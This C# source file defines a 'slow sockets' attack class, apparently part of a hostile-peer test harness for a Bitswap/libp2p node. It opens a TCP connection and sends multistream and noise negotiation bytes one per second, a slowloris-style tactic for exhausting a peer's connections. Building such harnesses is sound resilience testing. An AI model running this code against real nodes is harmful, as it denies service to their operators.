using System.Net.Sockets;

namespace Bitswap.Hostile.Attacks;

/// <summary>Negotiates a byte a second.</summary>
internal sealed class SlowSockets : Attack
{
    private static readonly TimeSpan _pause = TimeSpan.FromSeconds(1);

    public override string Name => "slow sockets";

    public override string Summary => "a socket that negotiates a byte a second, opened again whenever it is closed";

    public override async Task RunAsync(Multiaddr target, int attacker, CancellationToken cancellationToken)
    {
        using TcpClient client = await RawSocket.ConnectAsync(target, cancellationToken);
        foreach (byte next in "\u0013/multistream/1.0.0\n\u0007/noise\n"u8.ToArray())
        {
            await client.GetStream().WriteAsync(new[] { next }, cancellationToken);
            await Task.Delay(_pause, cancellationToken);
        }
    }
}
